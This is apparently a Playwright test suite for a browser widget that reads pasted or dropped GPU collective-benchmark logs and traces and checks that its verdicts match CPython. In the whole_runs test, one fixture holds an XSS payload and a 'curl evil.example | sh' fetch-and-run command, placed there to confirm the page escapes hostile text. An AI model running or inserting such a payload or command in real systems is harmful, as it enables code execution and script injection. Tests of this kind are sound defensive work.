"""The widget `yours` in Chromium, from a folder: pasted, chosen, dropped and tried out; one page, one Python, everything pressed, and every
case of yours_cases.py: the page says what CPython says."""

from __future__ import annotations

import gzip
import json
import pickle
import sys
from base64 import b64encode
from pathlib import Path

import contract_page
import pytest
import widget_harness
from playwright.sync_api import Page, expect
from test_pipeline_widget import OWN
from yours_cases import Case, cases

from helpers.parallel.profiled import trace_path
from helpers.pipeline import orders
from helpers.view.widgets import line
from helpers.view.yours.examples import examples
from helpers.view.yours.known import CHAPTERS, known
from helpers.view.yours.widget import verdict_on
from helpers.yours import is_my_number_good, own
from helpers.yours.asked import KNOWN
from helpers.yours.causes import KINDS
from helpers.yours.page import BOX, MOST, verdict
from helpers.yours.places import gpu_place
from helpers.yours.share.hidden import hidden
from helpers.yours.share.report import report
from helpers.yours.tables.printing import NAMES, printed
from helpers.yours.tables.published import published
from website.widgets import widget_files

sys.path.append(str(Path(__file__).parents[1] / "yours"))

from made_runs import made_run

MS, TIMES = 150, 5  # the most that a verdict may take; a ceiling of a test is five times the figure
PRESSED = 1000  # ms in which the page answers a click while Python reads
RUNS = [run for run in published() if len(run.points) > 1]
TYPED = """(text) => {
    const box = document.querySelector(".bim-box");
    box.value = text;
    box.dispatchEvent(new Event("input"));
}"""
# From the paste to the verdict, of each text.
TIMED = """async (texts) => {
    const [box, sentence] = [document.querySelector(".bim-box"), document.querySelector(".bim-sentence")];
    const found = [];
    for (const text of texts) {
        sentence.textContent = "";
        box.value = text;
        const start = performance.now();
        const told = new Promise((done) => {
            const watcher = new MutationObserver(() => {
                if (!sentence.textContent || sentence.textContent === "Reading ...") return;
                watcher.disconnect();
                done();
            });
            watcher.observe(sentence, { childList: true });
        });
        box.dispatchEvent(new InputEvent("input", { inputType: "insertFromPaste" }));
        await told;
        found.push([performance.now() - start, sentence.textContent]);
    }
    return found;
}"""
PASTED = """(lines) => {
    const clipboardData = new DataTransfer();
    clipboardData.setData("text", Array(lines).fill("h:1:2 [0] NCCL INFO Channel 00 : 0[0] -> 1[1] via P2P/IPC\\n").join(""));
    const event = new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true });
    document.querySelector(".bim-box").dispatchEvent(event);
}"""
ASKED = """async ([path, all]) => {
    const bytes = (base64) => Uint8Array.from(atob(base64), (letter) => letter.codePointAt(0));
    const own = (one) => (Array.isArray(one) ? one.map(own) : (one?.bytes === undefined ? one : bytes(one.bytes)));
    const found = [];
    for (const args of all) found.push(JSON.stringify(await BytesInMotion.python.ask(path, ...args.map(own))));
    return found;
}"""
DROPPED = """(text) => {
    const data = new DataTransfer();
    data.items.add(new File([text], "mine.txt"));
    document.querySelector(".bim-yours").dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
}"""

PACKED = """([base64, name]) => {
    const data = new DataTransfer();
    data.items.add(new File([Uint8Array.from(atob(base64), (letter) => letter.codePointAt(0))], name));
    document.querySelector(".bim-yours").dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
}"""
HUGE = """(size) => {
    const data = new DataTransfer();
    data.items.add(new File([new Uint8Array(size)], "snapshot.pickle"));
    document.querySelector(".bim-yours").dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
}"""
# What a dropped folder is: a File that cannot be read.
FOLDER = """() => {
    const data = new DataTransfer();
    const file = new File([], "logs");
    file.arrayBuffer = () => Promise.reject(new DOMException("no", "NotFoundError"));
    Object.defineProperty(data, "files", { value: [file] });
    document.querySelector(".bim-yours").dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
}"""
LATE = """(label) => {
    const box = document.querySelector(".bim-box");
    box.value = "hello";
    box.dispatchEvent(new Event("input"));
    [...document.querySelectorAll(".bim-try")].find((button) => button.textContent === label).click();
}"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    made = tmp_path_factory.mktemp("yours")
    contract_page.write_static(made, {**widget_files(), **contract_page.python_scripts()})
    return made


def sentence(page: Page):
    return page.locator(".bim-sentence")


def tell(found) -> str:
    why = found.refused.replace(KNOWN, f"{KNOWN.partition(':')[0]}.")
    return f"Not read: {why}" if why else found.sentence


def test_everything_on_one_page(open_alone, folder):
    page = open_alone(contract_page.write_page(folder, line("yours"), line("yours").html()))
    sentence(page).wait_for()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    every_example(page)
    assert asked == []  # Python is loaded when something is given
    a_failed_start(page)
    pasted_texts(page)
    chosen_files(page)
    packed_traces(page)
    whole_runs(page)
    too_much(page)
    the_machine(page)
    handed_on(page)
    a_long_paste(page)
    as_cpython(page)
    some = RUNS[::8]
    times = page.evaluate(
        TIMED, [printed(r.gpu, r.collective, r.nranks, r.version or "2.27.7", times_of(r)) for r in some]
    )
    assert len(times) == len(some) and all(said.startswith("The best is ") for _, said in times)
    slowest = max(ms for ms, _ in times)
    print(f"slowest of {len(times)} verdicts: {slowest:.0f} ms")
    assert slowest < TIMES * MS


def test_a_door_brings_its_one_example_and_folds_the_rest_of_its_verdict(open_alone, folder):
    page = open_alone(contract_page.write_page(folder, line("yours"), line("yours").page.html("cards", {"door": True})))
    sentence(page).wait_for()
    assert "yours_examples.js" not in page.content(), "the other examples are not loaded"
    found = verdict_on(next(one for one in examples() if one["name"] == "cards"))
    expect(sentence(page)).to_have_text(found.sentence)
    causes = page.locator(".bim-causes li:visible strong")
    assert causes.all_inner_texts() == [found.causes[0].name] and len(found.causes) > 1
    page.get_by_text("The whole verdict").click()
    assert causes.all_inner_texts() == [one.name for one in found.causes]
    page.locator(".bim-curves .bim-mine").wait_for()
    assert widget_harness.violations(page) == []
    page.set_viewport_size({"width": 375, "height": 667})
    page.evaluate("document.querySelector('.bim-box').focus(); scrollTo(0, 0)")
    page.evaluate(PASTED, 200_000)
    expect(sentence(page)).to_have_text("Reading ...")
    expect(sentence(page)).to_be_in_viewport(ratio=1)


def a_failed_start(page: Page) -> None:
    """It is said, also to a screen reader, and can be tried again."""
    page.evaluate(
        "working = Worker; Worker = class { constructor() { throw new Error('no worker here'); } }; undefined"
    )
    page.evaluate(TYPED, "hello")
    expect(sentence(page)).to_have_text("Not read: Python could not be started: no worker here", timeout=60_000)
    expect(page.locator(".bim-loading")).to_contain_text("Python did not start in this browser.")
    assert widget_harness.violations(page) == []
    page.evaluate("Worker = working; undefined")
    page.get_by_role("button", name="Try again").click()
    expect(sentence(page)).to_have_text(tell(is_my_number_good("hello")), timeout=60_000)
    expect(page.locator(".bim-loading")).to_be_hidden()


def a_long_paste(page: Page) -> None:
    """It is no text of the box, and the page answers while Python reads it; what comes later is not kept waiting by it."""
    page.evaluate(PASTED, 200_000)
    expect(sentence(page)).to_have_text("Reading ...")
    page.get_by_role("button", name=examples()[1]["label"]).click()
    expect(sentence(page)).to_have_text(verdict_on(examples()[1]).sentence, timeout=PRESSED)
    page.evaluate(PASTED, 20_000)
    expect(sentence(page)).to_contain_text("Connections: 20000 P2P/IPC.", timeout=60_000)
    expect(page.locator(".bim-files")).to_have_text("20001 pasted lines")
    assert page.locator(".bim-box").input_value() == ""
    page.evaluate(PASTED, 200_000)
    page.wait_for_timeout(1200)
    page.evaluate(TYPED, "98.4 GB/s")
    expect(sentence(page)).to_have_text(is_my_number_good("98.4 GB/s").sentence, timeout=60_000)


def handed_on(page: Page) -> None:
    """A verdict to paste into an issue, and a text, without the host that stood in it."""
    text = printed("H200", "all_reduce", 8, "2.29.2", {2**30: 0.01}).replace("node-0", "secret-host-7")
    page.evaluate(TYPED, text)
    expect(sentence(page)).to_have_text(is_my_number_good(text).sentence)
    notice = page.locator(".bim-yours .bim-notice")
    page.get_by_role("button", name="Copy for an issue").click()
    notice.filter(has_text="copied.").or_(notice.locator("textarea")).first.wait_for()
    if notice.locator("textarea").count():
        copied = notice.locator("textarea").input_value()
    else:
        copied = page.evaluate("navigator.clipboard.readText()")
    assert copied == report(is_my_number_good(hidden(text))) and "secret-host-7" not in copied
    page.get_by_role("button", name="Hide names").click()
    expect(page.locator(".bim-box")).to_have_value(hidden(text))
    expect(sentence(page)).to_have_text(is_my_number_good(text).sentence)


def as_cpython(page: Page) -> None:
    """Every case: the same JSON, and so the same words."""
    made = cases(12)
    assert len({json.loads(verdict(*asked(case)))["kind"] for case in made}) == 8
    compare(page, "helpers.yours.page:verdict", verdict, [asked(case) for case in made])
    tables = [[case.given, "mine"] for case in made if isinstance(case.given, str)]
    compare(page, "helpers.yours.own:curves", own.curves, tables)
    texts = [OWN, OWN.replace("0B1", "0B0"), OWN.replace("mine", "1f1b"), "hello", ""]
    compare(page, "helpers.pipeline.orders:read", orders.read, [[text, 8, 32, 4] for text in texts])


def asked(case: Case) -> list:
    return [case.given, case.machine, case.names]


def compare(page: Page, path: str, function, arguments: list[list]) -> None:
    def carried(one):
        if isinstance(one, list):
            return [carried(part) for part in one]
        return {"bytes": b64encode(one).decode()} if isinstance(one, bytes) else one

    answers = page.evaluate(ASKED, [path, carried(arguments)])
    for args, answer in zip(arguments, answers, strict=True):
        told = json.loads(answer, parse_int=float)
        assert told == {"value": json.loads(function(*args), parse_int=float)}, str(args)[:2000]


def every_example(page: Page) -> None:
    for example in examples():
        page.get_by_role("button", name=example["label"]).click()
        found = verdict_on(example)
        expect(sentence(page)).to_have_text(found.sentence)
        expect(page.locator("[aria-live]").first).to_have_text(found.sentence)
        expect(page.locator(".bim-causes li")).to_have_count(len(found.causes))
        expect(page.locator(".bim-curves")).to_have_count(int(len(found.points) > 1))
        for cause in found.causes[:1]:
            assert page.locator(".bim-causes a").first.get_attribute("href") == f"{cause.chapter}.html"
    page.get_by_role("button", name="8 H200").click()
    page.locator(".bim-causes").get_by_role("button", name="Copy").first.click()
    assert page.evaluate("navigator.clipboard.readText()") == verdict_on(examples()[0]).causes[0].command
    page.locator("summary", has_text="Line by line").click()
    expect(page.locator(".bim-scroll tbody tr")).to_have_count(len(verdict_on(examples()[0]).points))


def pasted_texts(page: Page) -> None:
    """Also what is refused, in Python's words; and nothing where nothing stands."""
    for text in ("hello", "98.4 GB/s", examples()[0]["text"].replace("365.60", "565.60")):
        page.evaluate(TYPED, text)
        expect(sentence(page)).to_have_text(tell(is_my_number_good(text)))
    page.evaluate(TYPED, "hello")
    expect(page.locator(".bim-kinds")).to_have_text(f"What is read: {KNOWN.partition(': expected ')[2]}.")
    page.evaluate(TYPED, " ")
    expect(sentence(page)).to_have_text("Nothing stands there yet.")
    page.locator("textarea").focus()
    page.keyboard.insert_text("CUDA out of memory. " * 40)
    expect(sentence(page)).to_be_in_viewport()
    expect(page.locator("textarea")).to_have_attribute("wrap", "soft")
    page.wait_for_function("() => document.querySelector('textarea').scrollTop === 0")
    page.evaluate(DROPPED, "# Avg bus bandwidth    : 7.25 ")
    expect(sentence(page)).to_contain_text("7.25 GB/s alone says nothing")


def chosen_files(page: Page) -> None:
    """Dumps by rank, by the last number of their names; a pickle with a function."""
    dumps = next(one["dumps"] for one in examples() if "dumps" in one)
    files = [{"name": f"trace_{rank}", "mimeType": "", "buffer": dumps[rank].encode()} for rank in (3, 1, 0)]
    page.locator("input[type=file]").set_input_files(files)
    expect(sentence(page)).to_have_text(is_my_number_good({rank: dumps[rank] for rank in (0, 1, 3)}).sentence)
    expect(page.locator(".bim-files")).to_have_text("rank 0: trace_0, rank 1: trace_1, rank 3: trace_3")
    page.locator("input[type=file]").set_input_files(
        [{"name": "x.pickle", "mimeType": "", "buffer": pickle.dumps(json.dumps)}]
    )
    expect(sentence(page)).to_have_text(tell(is_my_number_good(pickle.dumps(json.dumps))))


def packed_traces(page: Page) -> None:
    """One rank's trace as torch packs it, dropped; then all four, chosen: the page unpacks them and finds the late one."""
    paths = [trace_path("late-rank", rank) for rank in range(4)]
    page.evaluate(PACKED, [b64encode(paths[0].read_bytes()).decode(), paths[0].name])
    found = is_my_number_good(paths[0].read_bytes())
    expect(sentence(page)).to_have_text(found.sentence)
    expect(page.locator(".bim-what")).to_have_text(found.what)
    assert "of rank 0 of 4" in found.what and found.accused == ("exposed communication",)
    page.locator("input[type=file]").set_input_files(paths)
    found = is_my_number_good([path.read_bytes() for path in paths])
    expect(sentence(page)).to_have_text(found.sentence)
    expect(page.locator(".bim-causes li").first).to_contain_text("Rank 2 came last in 4 of 4 collectives")


def whole_runs(page: Page) -> None:
    """What gpu-check packed, of eight GPUs and of one where checks failed; with hostile words; damaged; and unfolding into gigabytes."""
    hostile = made_run("H100", 1, failed=("ranks start",))
    hostile["records"]["gpu-check"]["data"]["ranks start"]["why"] = (
        "<img src=x onerror=alert(1)>; curl evil.example | sh"
    )
    for number, run in enumerate((made_run(), hostile)):
        text = gzip.compress(json.dumps(run).encode())
        page.evaluate(PACKED, [b64encode(text).decode(), "run-8xh200.json.gz"])
        found = is_my_number_good(text)
        expect(sentence(page)).to_have_text(found.sentence)
        expect(page.locator(".bim-causes li")).to_have_count(len(found.causes))
        expect(page.locator(".bim-curves")).to_have_count(1 - number)
        rows = page.locator(".bim-scroll tbody tr")  # "Line by line" is open
        expect(rows).to_have_count(len(found.points) or len(found.lines))
        expect(page.locator(".bim-beside")).to_contain_text("".join(found.lines))
    assert page.locator(".bim-yours img").count() == 0 and "evil" in page.locator(".bim-causes p").first.inner_text()
    assert "evil" not in page.locator(".bim-command code").first.inner_text()
    for spoiled, words in (
        (text[:-20], "run.json.gz is packed by gzip and ends too early"),
        (gzip.compress(b"{" + b" " * 2**27), "this page reads 24 MiB at once at most"),
        (gzip.compress(b'{"records": 3}'), "no run of gpu-check: expected an object with 'records'"),
    ):
        page.evaluate(PACKED, [b64encode(spoiled).decode(), "run.json.gz"])
        expect(sentence(page)).to_contain_text(f"Not read: {words}" if "gzip" in words else words)


def too_much(page: Page) -> None:
    """A file that would keep a reader waiting, and a folder; what is tried out then is not undone by what came before."""
    page.evaluate(HUGE, MOST + 1)
    expect(sentence(page)).to_contain_text("Not read: that is 24 MiB, and this page reads 24 MiB at once at most")
    page.evaluate(FOLDER)
    expect(sentence(page)).to_contain_text("Not read: logs cannot be read: is it a folder")
    page.evaluate(LATE, examples()[0]["label"])
    page.wait_for_timeout(500)
    expect(sentence(page)).to_have_text(verdict_on(examples()[0]).sentence)


def the_machine(page: Page) -> None:
    text = next(one["text"] for one in examples() if one["name"] == "cards")
    page.evaluate(TYPED, text)
    expect(sentence(page)).to_have_text(is_my_number_good(text).sentence)
    page.get_by_role("combobox", name="The machine").select_option("2x8-IB")
    expect(sentence(page)).to_have_text(is_my_number_good(text, "2x8-IB").sentence)
    page.get_by_role("combobox", name="The machine").select_option("")
    page.evaluate(TYPED, text.replace("H100", "Z9"))
    page.get_by_role("button", name="Choose the machine").click()
    assert page.evaluate("document.activeElement.ariaLabel") == "The machine"


def times_of(run) -> dict[int, float]:
    return {point.nbytes: point.seconds for point in run.points}


def test_the_names_of_gpus_are_those_that_are_drawn():
    assert all(gpu_place([name]) for name in NAMES.values())


def test_the_page_says_how_much_it_reads():
    assert known()["most"] == MOST == 24 * 2**20 > BOX
    assert "more than 24 MiB" in (contract_page.ROOT / "book" / "yours.md").read_text()


def test_what_a_verdict_finds_leads_to_a_chapter():
    assert {kind.chapter for kind in KINDS.values()} == set(CHAPTERS)
